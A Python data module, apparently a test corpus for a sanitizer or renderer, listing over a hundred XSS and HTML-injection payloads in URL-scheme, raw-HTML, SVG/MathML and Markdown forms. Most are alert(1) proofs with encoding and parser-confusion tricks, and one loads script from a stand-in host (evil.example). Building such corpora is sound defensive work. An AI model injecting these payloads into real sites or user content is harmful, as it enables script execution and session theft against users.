"""A corpus of XSS and HTML-injection payloads, as an editor or translator could type them."""

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#x09;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)", "jav&#97;script:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "VBScript:msgbox(1)",
    "livescript:alert(1)", "file:///etc/passwd", "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
]

RAW_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1);\">", "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=x/onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset><frame src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>", "<textarea onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<p style=\"x:expression(alert(1))\">x</p>",
    "<link rel=stylesheet href=javascript:alert(1)>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=javascript:alert(1)//>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "<a onmouseover=alert(1)>x</a>", "<a href=# onclick=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>",
    "<table background=javascript:alert(1)>", "<isindex action=javascript:alert(1) type=image>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "</p><script>alert(1)</script><p>", "<plaintext><script>alert(1)</script>",
    "<keygen autofocus onfocus=alert(1)>", "<applet code=x>", "<bgsound src=javascript:alert(1)>",
]

SVG_MATHML = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
]

MARKDOWN = [f"[click]({scheme})" for scheme in SCHEMES] + [
    f"![img]({scheme})" for scheme in SCHEMES[:8]
] + [
    f"[ref]\n\n[ref]: {scheme}" for scheme in SCHEMES[:8]
] + [
    "<javascript:alert(1)>", "<vbscript:msgbox(1)>", "<data:text/html,<script>alert(1)</script>>",
    "[x](javascript:alert(1) \"title\")", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )",
    "[x](javascript&#58;alert(1))", "[![img](x)](javascript:alert(1))", "![x](x\" onerror=\"alert(1))",
    "[x](https://example.org\" onclick=\"alert(1))", "[x](https://example.org'onmouseover='alert(1))",
    "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>", "# <svg onload=alert(1)>", "**<iframe src=javascript:alert(1)>**",
    "| a |\n|---|\n| <script>alert(1)</script> |", "[x](//evil.example/%0Aalert(1))",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">ok</a>", "[x](mailto:a@example.org?body=<script>)",
]

PAYLOADS = RAW_HTML + SVG_MATHML + MARKDOWN + [f"<a href=\"{s}\">x</a>" for s in SCHEMES]
assert len(PAYLOADS) >= 100, len(PAYLOADS)
